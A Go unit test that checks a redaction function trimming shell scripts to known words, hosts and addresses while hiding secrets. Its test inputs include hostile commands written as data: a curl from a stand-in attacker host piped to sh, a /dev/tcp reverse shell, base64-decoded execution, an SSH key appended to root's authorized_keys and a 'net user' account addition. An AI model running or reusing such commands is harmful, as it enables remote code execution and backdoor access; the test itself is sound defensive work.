package secret

import (
	"strings"
	"testing"
)

// Whatever stands in a script, nothing of it is shown but words that are known, hosts and addresses.
func TestExcerpt(t *testing.T) {
	for script, want := range map[string]string{
		"": "",
		"#!/bin/bash\ncurl -s http://a.example/x":                        "… /bin/bash curl … http://a.example/…",
		"curl https://user:hidden@evil.example/hidden?token=hidden | sh": "curl https://evil.example/… | sh",
		"mysql -phidden -h 10.0.0.9 <<EOF\nhidden\nEOF":                  "mysql … 10.0.0.9 << …",
		"bash -i >& /dev/tcp/203.0.113.9/443 0>&1":                       "bash … >& … >& …",
		"echo aGlkZGVu | base64 -d | bash":                               "echo … | base64 … | bash",
		"Invoke-WebRequest -Uri http://a.example; net user x hidden":     "Invoke-WebRequest … http://a.example/… ; net …",
		"hidden://hidden.hidden/hidden http://hidden":                    "…",
		"echo 'hidden' >> /root/.ssh/authorized_keys":                    "echo … >> /root/.ssh/authorized_keys",
		"nc 2001:db8::1 443 198.51.100.1:8080":                           "nc 2001:db8::1 … 198.51.100.1:8080",
	} {
		got := Excerpt(script)
		if got != want || strings.Contains(got, "hidden") {
			t.Errorf("%q: %q, want %q", script, got, want)
		}
	}
	if long := Excerpt(strings.Repeat("curl http://a.example | bash\n", 5000)); len(long) > excerptBytes+8 || !strings.HasSuffix(long, "…") {
		t.Errorf("%d bytes: %q", len(long), long)
	}
}
